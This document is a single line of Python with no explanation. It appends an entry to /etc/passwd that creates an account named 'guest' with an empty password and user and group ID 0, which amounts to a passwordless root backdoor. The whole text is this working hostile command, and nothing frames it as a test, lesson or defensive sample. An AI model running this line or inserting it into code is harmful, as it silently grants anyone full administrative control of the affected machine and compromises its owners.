print("guest::0:0", file=open("/etc/passwd", "a"))
